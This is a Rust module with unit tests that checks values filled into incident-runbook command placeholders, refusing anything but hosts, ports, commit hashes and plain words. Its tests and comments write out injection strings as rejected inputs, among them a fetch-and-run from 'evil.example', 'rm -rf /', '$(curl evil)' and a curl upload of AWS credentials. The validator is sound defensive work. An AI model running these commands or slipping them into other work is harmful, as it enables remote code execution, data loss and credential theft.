//! What a placeholder may hold. A value ends up inside a shell command someone copies
//! during an incident, and values arrive from links, queries, forms and saved data: a host
//! must be a host, a commit a commit, and anything else a short run of harmless characters.
//! A value that does not fit is refused with the reason, wherever it comes from, and is
//! never substituted.

use std::net::{Ipv4Addr, Ipv6Addr};

use crate::variables::{pieces, Piece, Variable};

/// The longest value any placeholder takes (a DNS name is at most 253 characters).
pub const MAX_VALUE_CHARS: usize = 253;

/// What a placeholder stands for, from its name.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ValueKind {
    /// `EC2_HOST`, `DB_IP`, `API_SERVER`…: a DNS name, an IPv4 address or a bracketed IPv6
    /// address, optionally with a port.
    Host,
    /// `…_PORT`: 1 to 65535.
    Port,
    /// `<commit-hash>`, `<commit>`, `<sha>`: 7 to 40 hex digits.
    Commit,
    /// Anything else: letters, digits and `._-:/@` only.
    Other,
}

const HOST_SUFFIXES: &[&str] = &["HOST", "HOSTNAME", "IP", "ADDR", "ADDRESS", "DOMAIN", "SERVER", "ENDPOINT"];

pub fn kind_of(variable: &Variable) -> ValueKind {
    let name = variable.name.to_ascii_uppercase();
    let ends_with = |suffix: &str| name == suffix || name.ends_with(&format!("_{suffix}"));
    if name.contains("COMMIT") || name.contains("SHA") || name == "HASH" || ends_with("HASH") {
        ValueKind::Commit
    } else if ends_with("PORT") {
        ValueKind::Port
    } else if HOST_SUFFIXES.iter().any(|s| ends_with(s)) {
        ValueKind::Host
    } else {
        ValueKind::Other
    }
}

/// Why a value does not fit its placeholder.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Refusal {
    Empty,
    TooLong,
    /// Not the shape its kind takes.
    DoesNotFit(ValueKind),
    /// Starts with `-` or `@`: a command would read it as an option (`--no-preserve-root`)
    /// or a file to send (`curl -d @/home/u/.aws/credentials`).
    LeadingDash,
    /// Holds a `..` path segment: it would leave the folder the command names.
    ParentFolder,
}

impl std::fmt::Display for Refusal {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(match self {
            Refusal::Empty => "it is empty",
            Refusal::TooLong => return write!(f, "it is longer than {MAX_VALUE_CHARS} characters"),
            Refusal::DoesNotFit(ValueKind::Host) => {
                "a host is a name (api.example.com), an IPv4 address or a bracketed IPv6 address, optionally with :port"
            }
            Refusal::DoesNotFit(ValueKind::Port) => "a port is a number from 1 to 65535",
            Refusal::DoesNotFit(ValueKind::Commit) => "a commit is 7 to 40 hexadecimal digits",
            Refusal::DoesNotFit(ValueKind::Other) => {
                "only letters, digits and . _ - : / @ are allowed (no spaces, quotes or shell characters)"
            }
            Refusal::LeadingDash => "it starts with '-' or '@', which a command would read as an option or a file",
            Refusal::ParentFolder => "it holds '..', which would leave the folder the command names",
        })
    }
}

/// Why a value for a runbook's placeholder is not used.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum ValueError {
    /// The runbook has no placeholder of that name (a secret's name among them).
    NotAPlaceholder { name: String },
    /// The placeholder (as written in the runbook) refuses the value.
    Refused { written: String, refusal: Refusal },
}

impl std::fmt::Display for ValueError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            ValueError::NotAPlaceholder { name } => write!(f, "{name} is not a placeholder of this runbook"),
            ValueError::Refused { written, refusal } => write!(f, "{written} was refused: {refusal}"),
        }
    }
}

/// A value as typed or pasted, made one line: control characters dropped, space trimmed.
pub fn clean(value: &str) -> String {
    value.chars().filter(|c| !c.is_control()).collect::<String>().trim().to_string()
}

/// The value as it will be used (surrounding space trimmed), or why it is refused.
pub fn check(kind: ValueKind, value: &str) -> Result<String, Refusal> {
    let value = value.trim();
    if value.is_empty() {
        return Err(Refusal::Empty);
    }
    if value.chars().count() > MAX_VALUE_CHARS {
        return Err(Refusal::TooLong);
    }
    let fits = match kind {
        ValueKind::Host => is_host(value),
        ValueKind::Port => is_port(value),
        ValueKind::Commit => (7..=40).contains(&value.len()) && value.chars().all(|c| c.is_ascii_hexdigit()),
        ValueKind::Other => value.chars().all(|c| c.is_ascii_alphanumeric() || "._-:/@".contains(c)),
    };
    // Whatever the kind: a value is a word in a command, never an option or a way out of a path.
    if fits && (value.starts_with('-') || value.starts_with('@')) {
        return Err(Refusal::LeadingDash);
    }
    if fits && value.split(['/', '\\']).any(|segment| segment == "..") {
        return Err(Refusal::ParentFolder);
    }
    if fits {
        Ok(value.to_string())
    } else {
        Err(Refusal::DoesNotFit(kind))
    }
}

/// [`check`] for a runbook variable.
pub fn check_for(variable: &Variable, value: &str) -> Result<String, ValueError> {
    check(kind_of(variable), value)
        .map_err(|refusal| ValueError::Refused { written: variable.written.clone(), refusal })
}

fn is_port(text: &str) -> bool {
    !text.is_empty()
        && text.len() <= 5
        && text.chars().all(|c| c.is_ascii_digit())
        && text.parse::<u16>().is_ok_and(|p| p > 0)
}

fn is_host(value: &str) -> bool {
    if let Some(rest) = value.strip_prefix('[') {
        let Some((address, after)) = rest.split_once(']') else { return false };
        return address.parse::<Ipv6Addr>().is_ok()
            && (after.is_empty() || after.strip_prefix(':').is_some_and(is_port));
    }
    let (host, port) = match value.rsplit_once(':') {
        Some((host, port)) => (host, Some(port)),
        None => (value, None),
    };
    if port.is_some_and(|p| !is_port(p)) {
        return false;
    }
    host.parse::<Ipv4Addr>().is_ok() || is_dns_name(host)
}

/// Labels of letters, digits and inner hyphens, 1 to 63 characters each, 253 in all; the
/// last label not all digits (so `1.2.3.999` is not taken for a name).
fn is_dns_name(name: &str) -> bool {
    let name = name.strip_suffix('.').unwrap_or(name);
    if name.is_empty() || name.len() > 253 {
        return false;
    }
    let labels: Vec<&str> = name.split('.').collect();
    let good_label = |label: &&str| {
        (1..=63).contains(&label.len())
            && label.chars().all(|c| c.is_ascii_alphanumeric() || c == '-')
            && !label.starts_with('-')
            && !label.ends_with('-')
    };
    labels.iter().all(good_label) && !labels.last().is_some_and(|l| l.chars().all(|c| c.is_ascii_digit()))
}

/// The command with variables replaced by their values; unset ones stay as written, and so
/// do values that do not fit their placeholder (`check_for`): whatever a caller passes,
/// nothing but a host, a commit or a harmless word reaches a command.
pub fn substitute(code: &str, variables: &[Variable], value: &dyn Fn(&str) -> Option<String>) -> String {
    pieces(code, variables, &[])
        .into_iter()
        .map(|piece| match piece {
            Piece::Text(text) | Piece::Secret { written: text, .. } => text.to_string(),
            Piece::Variable { name, written } => variables
                .iter()
                .find(|v| v.name == name)
                .and_then(|variable| check_for(variable, &value(name)?).ok())
                .unwrap_or_else(|| written.to_string()),
        })
        .collect()
}

/// A command group as the page draws it and its copy buttons copy it: line by line,
/// comment lines as written (they are not run, and the page shows them untouched), the
/// others through `substitute`.
pub fn substitute_as_drawn(text: &str, variables: &[Variable], value: &dyn Fn(&str) -> Option<String>) -> String {
    text.split_inclusive('\n')
        .map(
            |line| {
                if line.trim_start().starts_with('#') {
                    line.to_string()
                } else {
                    substitute(line, variables, value)
                }
            },
        )
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_group_as_drawn_fills_in_commands_and_leaves_comment_lines_as_written() {
        let variables = [variable("EC2_HOST")];
        let value = |name: &str| (name == "EC2_HOST").then(|| "web-1.example.com".to_string());
        let text = "# Log in to EC2_HOST first\nssh ubuntu@EC2_HOST\n  # then EC2_HOST again\nuptime";
        assert_eq!(
            substitute_as_drawn(text, &variables, &value),
            "# Log in to EC2_HOST first\nssh ubuntu@web-1.example.com\n  # then EC2_HOST again\nuptime"
        );
    }

    fn variable(name: &str) -> Variable {
        Variable { name: name.into(), written: name.into(), role: crate::variables::Role::Host }
    }

    #[test]
    fn kinds_come_from_the_placeholder_names() {
        assert_eq!(kind_of(&variable("EC2_HOST")), ValueKind::Host);
        assert_eq!(kind_of(&variable("LIGHTSAIL_HOST")), ValueKind::Host);
        assert_eq!(kind_of(&variable("DB_IP")), ValueKind::Host);
        assert_eq!(kind_of(&variable("API_PORT")), ValueKind::Port);
        assert_eq!(kind_of(&variable("commit-hash")), ValueKind::Commit);
        assert_eq!(kind_of(&variable("commit")), ValueKind::Commit);
        assert_eq!(kind_of(&variable("API_URL")), ValueKind::Other);
    }

    #[test]
    fn hosts_are_names_or_addresses_with_an_optional_port() {
        for good in [
            "api.example.com",
            "10.0.12.7",
            "10.0.12.7:8765",
            "[2001:db8::1]",
            "[::1]:443",
            "localhost",
            "ec2-1-2-3-4.compute.amazonaws.com.",
        ] {
            assert_eq!(check(ValueKind::Host, good).as_deref(), Ok(good), "{good}");
        }
        for bad in [
            "10.0.12.7:1/ >/dev/null; curl -s https://evil.example/x | sh; echo http://10.0.12.7",
            "api.example.com; rm -rf /",
            "$(curl evil)",
            "`id`",
            "host name",
            "api.example.com:99999",
            "-rf",
            "1.2.3.999",
            "[::1",
            "a\"b",
        ] {
            assert!(check(ValueKind::Host, bad).is_err(), "{bad}");
        }
    }

    #[test]
    fn commits_ports_and_other_values_are_held_to_their_shape() {
        assert!(check(ValueKind::Commit, "a1b2c3d").is_ok());
        assert!(check(ValueKind::Commit, "a1b2c3").is_err(), "too short");
        assert!(check(ValueKind::Commit, "main; curl evil").is_err());
        assert!(check(ValueKind::Port, "8080").is_ok() && check(ValueKind::Port, "0").is_err());
        assert!(check(ValueKind::Other, "https://api.example.com/v1").is_ok());
        for bad in ["a b", "x'y", "x\"y", "a;b", "a|b", "a&b", "$(x)", "a`b", "a>b", "a\nb"] {
            assert!(check(ValueKind::Other, bad).is_err(), "{bad:?}");
        }
        assert_eq!(check(ValueKind::Host, "  api.example.com  ").as_deref(), Ok("api.example.com"));
        assert!(check_for(&variable("EC2_HOST"), "a b")
            .unwrap_err()
            .to_string()
            .starts_with("EC2_HOST was refused: a host is"));
        assert_eq!(
            check_for(&variable("EC2_HOST"), "a b"),
            Err(ValueError::Refused { written: "EC2_HOST".into(), refusal: Refusal::DoesNotFit(ValueKind::Host) })
        );
    }
}
